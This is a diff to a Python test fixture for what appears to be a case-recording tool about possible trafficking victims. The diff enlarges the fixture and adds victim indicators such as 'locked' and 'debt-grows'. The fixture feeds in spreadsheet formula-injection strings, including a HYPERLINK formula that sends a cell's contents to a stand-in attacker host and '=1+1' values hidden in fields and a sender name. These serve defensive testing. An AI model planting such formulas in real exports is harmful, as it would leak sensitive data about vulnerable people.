@@ -26,14 +26,19 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example/"&A1)', "en\n=1+1", 'en,"=1+1',
 ]  # fmt: skip
 
+SIGNS = ("locked", "papers-kept", "little-pay", "debt-grows", "violence")
+
 
 @pytest.fixture
 def attacked(tmp_path: Path) -> Vault:
-    """A record that took in twelve cases for each formula, enough to be listed, and one that it cannot read."""
+    """A record that took in 24 cases for each formula, enough to be listed, half of them of possible victims, and one
+    that it cannot read.
+    """
     receiver, sender = laptop("Aina"), laptop("=1+1|x")
     introduce(receiver, sender)
     for formula in FORMULAS:
-        for _ in range(12):
+        for number in range(24):
+            signs = SIGNS if number < 12 else SIGNS[:1]
             case = sender.new_case()
             sender.append_many(
                 case,
@@ -43,7 +48,7 @@ def attacked(tmp_path: Path) -> Vault:
                     ConsentDecided("count", "yes", "v", formula),
                     SheetNoted("service", "sector", formula),
                     SheetNoted("service", "sex", formula),
-                    AnswerGiven("locked", Answer.YES, How.TOLD),
+                    *(AnswerGiven(each, Answer.YES, How.TOLD) for each in signs),
                 ],
             )
     strange = sender.new_case()
